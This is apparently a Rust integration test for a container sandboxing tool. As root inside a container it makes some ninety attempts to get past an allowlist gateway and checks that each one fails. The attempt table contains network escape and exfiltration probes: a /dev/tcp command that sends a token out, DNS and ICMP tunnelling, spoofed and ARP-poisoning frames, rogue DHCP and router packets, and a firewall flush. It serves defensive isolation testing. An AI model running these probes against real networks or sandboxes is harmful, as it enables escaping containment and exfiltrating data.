//! Attempts by root in a pixel to bypass the gateway. An attempt succeeds if
//! the pixel receives an answer, or if a packet arrives outside, on the host or
//! at a neighbor. Attempts marked `open` are repeated from a pixel on an
//! external network, where they must succeed: an attempt that fails everywhere
//! proves nothing.

use std::collections::BTreeSet;
use std::fmt::Display;
use std::io::{BufRead, BufReader, Read, Write};
use std::net::TcpListener;
use std::process::Child;
use std::sync::{Arc, Mutex};

use crate::support::env::TestEnv;
use crate::support::lab;
use crate::support::wait::eventually;
use crate::support::walls::{Place, Walls};
use crate::support::wan;

const PROBE: &str = include_str!("../../src/lifecycle/guest/probe.pl");

/// The addresses and ports used in attempts.
struct Targets {
    own: Place,
    neighbour: Place,
    gateway: Place,
    /// The gateway's address on the external network.
    uplink: String,
    /// The hardware address of the host's bridge.
    bridge_mac: String,
    host: String,
    host_port: u16,
    /// The port of the resolver for the neighbor's policy.
    resolver: u16,
    /// The address of a destroyed, unrestricted pixel.
    former: String,
}

impl Targets {
    /// Replaces the placeholders of a row, longer placeholders first.
    fn fill(&self, row: &str) -> String {
        let connect = "timeout 2 bash -c \
                       'exec 3<>/dev/tcp/DENIED/443 && echo $TOKEN >&3 && head -n 1 <&3'";
        let words: [(&str, &dyn Display); 16] = [
            ("CONNECT", &connect),
            ("DENIED", &wan::address(wan::FIRST, 20)),
            ("ALLOWED", &wan::address(wan::FIRST, 10)),
            ("OTHER", &wan::address(wan::FIRST, 60)),
            ("OWN_MAC", &self.own.mac),
            ("OWN", &self.own.address),
            ("NEIGHBOUR_MAC", &self.neighbour.mac),
            ("NEIGHBOUR", &self.neighbour.address),
            ("GATEWAY_MAC", &self.gateway.mac),
            ("GATEWAY", &self.gateway.address),
            ("UPLINK", &self.uplink),
            ("BRIDGE_MAC", &self.bridge_mac),
            ("HOST_PORT", &self.host_port),
            ("HOST", &self.host),
            ("RESOLVER_PORT", &self.resolver),
            ("FORMER", &self.former),
        ];
        let filled = words.iter().fold(row.to_owned(), |row, (word, value)| {
            row.replace(word, &value.to_string())
        });
        filled.replace("BROADCAST", "ff:ff:ff:ff:ff:ff")
    }
}

struct Attempt {
    name: &'static str,
    /// Verb and arguments of the probe.
    line: &'static str,
    /// The attempt succeeds on an external network.
    open: bool,
}

fn attempts() -> Vec<Attempt> {
    let parse = |row: &'static str| {
        let (kind, rest) = row.split_once(" | ").unwrap();
        let (name, line) = rest.split_once(" | ").unwrap();
        assert!(["open", "isolated"].contains(&kind), "{row}");
        let open = kind == "open";
        Attempt { name, line, open }
    };
    ATTEMPTS.iter().map(|row| parse(row)).collect()
}

/// Records all packets at the interface of a pixel.
struct Witness {
    child: Child,
    seen: Arc<Mutex<String>>,
}

impl Witness {
    fn at(env: &TestEnv, pixel: &str) -> Self {
        let mut child = env.spawn(["exec", "-u", "root", pixel, "--", "perl", "-", "witness"]);
        let mut stdin = child.stdin.take().unwrap();
        stdin.write_all(PROBE.as_bytes()).unwrap();
        drop(stdin);
        let stdout = child.stdout.take().unwrap();
        let seen = Arc::new(Mutex::new(String::new()));
        let theirs = seen.clone();
        std::thread::spawn(move || {
            for line in BufReader::new(stdout).lines().map_while(Result::ok) {
                theirs.lock().unwrap().push_str(&(line + "\n"));
            }
        });
        let witness = Self { child, seen };
        eventually("the witness is ready", || witness.saw("witness ready"));
        witness
    }

    fn saw(&self, text: &str) -> bool {
        self.seen.lock().unwrap().to_lowercase().contains(text)
    }
}

impl Drop for Witness {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// Records what the host's listener receives.
struct Host {
    port: u16,
    seen: Arc<Mutex<String>>,
}

impl Host {
    fn listen(address: &str) -> Self {
        let listener = TcpListener::bind((address, 0)).unwrap();
        let port = listener.local_addr().unwrap().port();
        let seen = Arc::new(Mutex::new(String::new()));
        let theirs = seen.clone();
        std::thread::spawn(move || {
            for mut stream in listener.incoming().flatten() {
                let _ = stream.set_read_timeout(Some(std::time::Duration::from_secs(1)));
                let mut printed = [0; 200];
                let length = stream.read(&mut printed).unwrap_or(0);
                let printed = String::from_utf8_lossy(&printed[..length]).into_owned();
                theirs.lock().unwrap().push_str(&printed);
                let _ = stream.write_all(b"hello from the host\n");
            }
        });
        Self { port, seen }
    }

    fn saw(&self, text: &str) -> bool {
        self.seen.lock().unwrap().contains(text)
    }
}

/// Rows `KIND | NAME | PROBE`. KIND is `open` if a pixel without a gateway must
/// succeed. [`Targets::fill`] replaces the placeholders in PROBE.
const ATTEMPTS: &[&str] = &[
    // Direct connections.
    "open | a raw address | tcp DENIED 443",
    "open | a raw address, UDP | udp DENIED 4433",
    "open | a raw address, QUIC's port | udp DENIED 443",
    "open | an address that the neighbor's policy allows | tcp DENIED 80",
    "open | the time server | udp DENIED 123",
    "open | source port 22 | tcp DENIED 443 22",
    "open | source port 53 | udp DENIED 4433 53",
    "open | source port 67 | udp DENIED 68 67",
    "open | source port 68 | udp DENIED 4433 68",
    "open | in fragments | udp DENIED 4433 0 5000",
    "open | an ICMP tunnel | icmp DENIED",
    "open | another type of ICMP | icmp ALLOWED 13",
    "open | GRE | proto 47 DENIED",
    "open | ESP | proto 50 DENIED",
    "open | IP in IP | proto 4 DENIED",
    "open | SCTP | proto 132 DENIED",
    "open | an unassigned protocol | proto 253 DENIED",
    "open | a denied port of an allowed host | tcp 198.51.100.21 80",
    // DNS queries.
    "open | another resolver | dns OTHER TOKEN.other.test",
    "open | another resolver, TCP | dns OTHER TOKEN.other.test A tcp",
    "isolated | a denied name | dns GATEWAY other.test",
    "isolated | a denied name of another type | dns GATEWAY TOKEN.test HTTPS",
    "isolated | a denied name, any type | dns GATEWAY TOKEN.test ANY",
    "isolated | a label under an allowed name | dns GATEWAY TOKEN.allowed.test",
    "isolated | a label under an allowed name, TXT | dns GATEWAY TOKEN.allowed.test TXT",
    "isolated | a label under an allowed name, NULL | dns GATEWAY TOKEN.allowed.test NULL",
    "isolated | a label under an allowed name, TCP | dns GATEWAY TOKEN.allowed.test A tcp",
    "isolated | labels of an allowed name | dns GATEWAY allowed.test.TOKEN.test",
    "open | the name server of the internet | dns 198.51.100.53 TOKEN.test",
    "isolated | the host's resolver | dns HOST other.test",
    "isolated | the gateway's upstream side | dns UPLINK other.test",
    "isolated | the neighbor's resolver | dns GATEWAY other.test A udp RESOLVER_PORT",
    "isolated | the neighbor's resolver, TCP | dns GATEWAY other.test A tcp RESOLVER_PORT",
    "open | DNS over TLS | tcp OTHER 853",
    "open | DNS over HTTPS | tcp OTHER 443",
    "open | DNS on another port | udp OTHER 65000",
    // The host and its services.
    "open | the host | tcp HOST HOST_PORT",
    "isolated | the host's other address | tcp 198.51.100.62 80",
    "open | ping of the host | icmp HOST",
    "open | the metadata service | tcp 169.254.169.254 80",
    "isolated | the external address of the gateway | tcp UPLINK 22",
    "isolated | ping of the gateway's external address | icmp UPLINK",
    "isolated | SSH to the gateway | tcp GATEWAY 22",
    "isolated | ping of the gateway | icmp GATEWAY",
    "isolated | port 67 of the gateway | tcp GATEWAY 67",
    "isolated | port 80 of the gateway | tcp GATEWAY 80",
    "isolated | port 443 of the gateway | tcp GATEWAY 443",
    "isolated | port 5355 of the gateway | tcp GATEWAY 5355",
    "isolated | port 8443 of the gateway | tcp GATEWAY 8443",
    "open | a route by the host's bridge | spoof BRIDGE_MAC OWN_MAC OWN DENIED 4433",
    "isolated | a route by the host's VLAN | tagged BRIDGE_MAC OWN_MAC OWN DENIED 1",
    "isolated | the host's resolver, by its bridge | spoof BRIDGE_MAC OWN_MAC OWN HOST 53",
    "isolated | the host, by its bridge | spoof BRIDGE_MAC OWN_MAC OWN 198.51.100.62 4433",
    "isolated | a broadcast frame to a denied address | spoof BROADCAST OWN_MAC OWN DENIED 4433",
    "open | the broadcast address | udp 255.255.255.255 4433",
    "isolated | a broadcast outside | udp 198.51.100.63 4433",
    "open | multicast | udp 239.1.1.1 4433",
    "open | multicast DNS | udp 224.0.0.251 5353",
    // Spoofed sender addresses. The neighbor may reach DENIED.
    "isolated | the neighbor's address | spoof GATEWAY_MAC OWN_MAC NEIGHBOUR DENIED 4433",
    "isolated | the neighbor's hardware address too \
     | spoof GATEWAY_MAC NEIGHBOUR_MAC NEIGHBOUR DENIED 4433",
    "isolated | the gateway's address | spoof GATEWAY_MAC OWN_MAC GATEWAY DENIED 4433",
    "isolated | the gateway's own hardware address \
     | spoof GATEWAY_MAC GATEWAY_MAC GATEWAY DENIED 4433",
    "isolated | an unused address | spoof GATEWAY_MAC OWN_MAC 10.0.0.7 DENIED 4433",
    "isolated | an external address | spoof GATEWAY_MAC OWN_MAC 198.51.100.77 DENIED 4433",
    "isolated | the host's address | spoof GATEWAY_MAC OWN_MAC HOST DENIED 4433",
    "isolated | the address of a destroyed pixel | spoof GATEWAY_MAC OWN_MAC FORMER DENIED 4433",
    "isolated | loopback | spoof GATEWAY_MAC OWN_MAC 127.0.0.1 DENIED 4433",
    "isolated | a source route over an allowed host \
     | spoof GATEWAY_MAC OWN_MAC OWN ALLOWED 4433 8307c633641400",
    // Packets to the neighbor.
    "open | the neighbor | udp NEIGHBOUR 4433",
    "isolated | the neighbor by the gateway | spoof GATEWAY_MAC OWN_MAC OWN NEIGHBOUR 4433",
    "open | the neighbor's own hardware address | spoof NEIGHBOUR_MAC OWN_MAC OWN NEIGHBOUR 4433",
    "open | a frame with a local EtherType | frame NEIGHBOUR_MAC OWN_MAC 88b5",
    "open | a broadcast frame with a local EtherType | frame BROADCAST OWN_MAC 88b5",
    "open | a tagged frame | frame NEIGHBOUR_MAC OWN_MAC 8100 000188b5",
    "open | ARP poisoning of the neighbor \
     | arp NEIGHBOUR_MAC OWN_MAC 2 OWN_MAC GATEWAY NEIGHBOUR_MAC NEIGHBOUR",
    "open | an ARP request for the neighbor \
     | arp BROADCAST OWN_MAC 1 OWN_MAC OWN 00:00:00:00:00:00 NEIGHBOUR",
    "isolated | ARP as the gateway \
     | arp BROADCAST GATEWAY_MAC 2 GATEWAY_MAC GATEWAY BROADCAST NEIGHBOUR",
    "open | a rogue router | frame 33:33:00:00:00:01 OWN_MAC 86dd 6000000000143aff\
     fe800000000000000000000000000001ff0200000000000000000000000000018600000040000708",
    "isolated | IPv6 to the neighbor \
     | sh ping -6 -c 1 -W 1 -p $(echo $TOKEN | od -An -tx1 | tr -d ' \\n' | head -c 32) \
     ff02::1%eth0 | grep -v $(cat /sys/class/net/eth0/address | cut -d: -f6) | grep 'bytes from' \
     | grep -v $(ip -6 -o addr show dev eth0 | sed 's/.*inet6 \\([^/]*\\).*/\\1/')",
    "isolated | a self-assigned IPv6 address | sh ip -6 addr add 2001:db8::5/64 dev eth0 nodad; \
     ip -6 route add default via fe80::1 dev eth0; ping -6 -c 1 -W 1 2001:db8::1",
    // DHCP requests and answers.
    "isolated | a second lease | dhcp OWN_MAC 1 02:00:00:00:00:77",
    "isolated | the neighbor's lease | dhcp OWN_MAC 1 NEIGHBOUR_MAC",
    "isolated | a lease by another's hardware address | dhcp NEIGHBOUR_MAC 1 NEIGHBOUR_MAC",
    "isolated | declining the neighbor's address \
     | dhcp OWN_MAC 4 NEIGHBOUR_MAC 0.0.0.0 0.0.0.0 0.0.0.0 NEIGHBOUR",
    "isolated | an answer sent to the neighbor | dhcp OWN_MAC 8 OWN_MAC OWN NEIGHBOUR",
    "isolated | an answer sent by a relay | dhcp OWN_MAC 1 OWN_MAC 0.0.0.0 0.0.0.0 NEIGHBOUR",
    "open | a rogue server | spoof BROADCAST OWN_MAC OWN 255.255.255.255 68",
    // Changes with root's tools. Each probe restores the previous state.
    "open | a flushed ruleset | sh nft flush ruleset; iptables -F; CONNECT",
    "isolated | a network of one's own \
     | sh ip link add t-mv link eth0 type macvlan mode bridge; ip link set t-mv up; \
     ip addr add FORMER/16 dev t-mv; ip route add DENIED/32 via GATEWAY dev t-mv src FORMER; \
     CONNECT; code=$?; ip link del t-mv; exit $code",
    "open | a nested container | sh ip netns add t-ns; in='nsenter --net=/run/netns/t-ns'; \
     ip link add t-in type veth peer name eth0 netns t-ns; \
     ip addr add 192.168.77.1/24 dev t-in; ip link set t-in up; \
     $in ip addr add 192.168.77.2/24 dev eth0; $in ip link set eth0 up; \
     $in ip route add default via 192.168.77.1; echo 1 >/proc/sys/net/ipv4/ip_forward; \
     nft 'add table ip t-nat; add chain ip t-nat p { type nat hook postrouting priority 100; }; \
     add rule ip t-nat p oifname eth0 masquerade'; \
     $in CONNECT; code=$?; nft delete table ip t-nat; \
     ip link del t-in; ip netns del t-ns; exit $code",
    "isolated | a bridge over the interface \
     | sh ip link add t-br type bridge; ip link set t-br up; ip addr add FORMER/16 dev t-br; \
     ip link set eth0 master t-br; ip route replace DENIED/32 via GATEWAY dev t-br; CONNECT; \
     code=$?; ip link set eth0 nomaster; ip link del t-br; exit $code",
    "isolated | the guest API | sh ls /dev/incus/sock",
    "isolated | a device of the host | sh ls /dev/kmsg /dev/mem /dev/sda",
];

/// Makes all attempts. Returns the successful ones with the reason.
fn succeeded(
    walls: &Walls,
    env: &TestEnv,
    pixel: &str,
    to: &Targets,
    attempts: &[Attempt],
    at_neighbour: &Witness,
    host: &Host,
) -> Vec<(&'static str, String)> {
    let tag = std::process::id() % 10_000;
    let token = |number: usize| format!("pxt{tag:04}x{number:03}q");
    let mut script = PROBE.to_owned();
    for (number, attempt) in attempts.iter().enumerate() {
        script.push_str(&format!("{} {}\n", token(number), to.fill(attempt.line)));
    }
    let variable = format!("GATEWAY={}", to.gateway.address);
    let args = [
        "exec", "-u", "root", "-e", &variable, pixel, "--", "perl", "-",
    ];
    let outcome = env.pixels_with(args, script.as_bytes()).ok();
    let reported: Vec<&str> = outcome.stdout.lines().collect();
    assert_eq!(reported.len(), attempts.len(), "{outcome:?}");
    let mut found = Vec::new();
    for ((number, attempt), line) in attempts.iter().enumerate().zip(reported) {
        let token = token(number);
        let rest = line
            .strip_prefix(token.as_str())
            .unwrap_or_else(|| panic!("{line}"));
        let ways = [
            (rest.starts_with(" got "), rest.trim_start()),
            (walls.wan.saw(&token), "seen outside"),
            (at_neighbour.saw(&token), "seen by the neighbor"),
            (host.saw(&token), "seen by the host"),
        ];
        let ways = ways.into_iter().filter(|(succeeded, _)| *succeeded);
        let ways: Vec<&str> = ways.map(|(_, way)| way).collect();
        if !ways.is_empty() {
            found.push((attempt.name, ways.join(", ")));
        }
    }
    found
}

fn mac_of(interface: &str) -> String {
    let path = format!("/sys/class/net/{interface}/address");
    std::fs::read_to_string(path).unwrap().trim().to_owned()
}

fn host_address() -> String {
    let network = crate::support::server::Server::shared().get("/1.0/networks/incusbr0");
    let address = network["config"]["ipv4.address"].as_str().unwrap();
    address.split('/').next().unwrap().to_owned()
}

#[test]
#[ignore = "needs Incus"]
fn root_in_pixel_cannot_bypass_gateway() {
    lab::ready();
    let walls = Walls::new("esc", wan::Wan::first());
    walls.wan.name("allowed.test", &[10]);
    walls.wan.name("other.test", &[20]);
    walls.wan.name("ported.test", &[21]);
    let a = walls.create("a", "allowlist", &["allowed.test", "ported.test:443"]);
    let b = walls.create("b", "allowlist", &["other.test"]);
    let d = walls.create("d", "unrestricted", &[]);
    let former = walls.place(&d).address;
    walls.env.pixels(["destroy", "--force", &d]).ok();
    // Allowed hosts are reachable from this pixel and from the neighbor.
    walls.comes_to_reach(&a, "allowed.test", 443);
    walls.comes_to_reach(&a, "ported.test", 443);
    walls.comes_to_reach(&b, "other.test", 80);

    let host = Host::listen(&host_address());
    let uplink = walls
        .server
        .get(&format!("/1.0/instances/{}/state", walls.gateway_name()));
    let uplink = uplink["network"]["eth0"]["addresses"][0]["address"]
        .as_str()
        .unwrap()
        .to_owned();
    let neighbour = walls.place(&b);
    let element = format!("inet pixels resolvers {{ {} }}", neighbour.address);
    let get = ["nft", &format!("get element {element}")];
    let ports = walls.server.run(&walls.gateway_name(), &get);
    // The port is the only word that is a number.
    let port = ports.split_whitespace().find_map(|word| word.parse().ok());
    let resolver = port.unwrap_or_else(|| panic!("no port in {ports}"));
    let to = Targets {
        own: walls.place(&a),
        neighbour,
        gateway: walls.gateway(),
        uplink,
        bridge_mac: mac_of(&walls.wan.bridge()),
        host: host_address(),
        host_port: host.port,
        resolver,
        former,
    };
    let all = attempts();
    assert!(all.len() >= 40);
    let witness = Witness::at(&walls.env, &b);
    let found = succeeded(&walls, &walls.env, &a, &to, &all, &witness, &host);
    assert!(found.is_empty(), "{found:#?}");

    // Neither the neighbor nor this pixel is damaged.
    drop(witness);
    walls.comes_to_reach(&b, "other.test", 80);
    walls.comes_to_reach(&a, "allowed.test", 443);
    walls.env.pixels(["stop", &b]).ok();
    walls.env.pixels(["start", &b]).ok();
    eventually("the neighbor is reachable again", || {
        walls.reaches(&b, "other.test", 80)
    });

    open_pixels_succeed(&walls, &host);
}

/// Repeats the attempts from a pixel on an external network.
fn open_pixels_succeed(walls: &Walls, host: &Host) {
    walls.wan.forget();
    let env = walls.open("esco");
    let (a, b) = (env.name("a"), env.name("b"));
    env.pixels(["create", &a]).ok();
    env.pixels(["create", &b]).ok();
    let place = |name: &str| {
        let found = walls.server.get(&format!("/1.0/instances/px-{name}"));
        let mac = &found["config"]["volatile.eth0.hwaddr"];
        let started = env.pixels(["start", name, "--json"]).ok().json();
        Place {
            mac: mac.as_str().unwrap().to_owned(),
            address: started["ip"].as_str().unwrap().to_owned(),
        }
    };
    let bridge_mac = mac_of("incusbr0");
    let to = Targets {
        own: place(&a),
        neighbour: place(&b),
        gateway: Place {
            mac: bridge_mac.clone(),
            address: host_address(),
        },
        uplink: host_address(),
        bridge_mac,
        host: host_address(),
        host_port: host.port,
        resolver: 53,
        former: "10.99.99.99".into(),
    };
    let mut all = attempts();
    all.retain(|attempt| attempt.open);
    let witness = Witness::at(&env, &b);
    let found = succeeded(walls, &env, &a, &to, &all, &witness, host);
    let found: BTreeSet<&str> = found.iter().map(|(name, _)| *name).collect();
    let idle: Vec<&str> = all
        .iter()
        .map(|attempt| attempt.name)
        .filter(|name| !found.contains(name))
        .collect();
    assert!(
        idle.is_empty(),
        "these attempts prove nothing, they fail without a gateway too: {idle:#?}"
    );
}
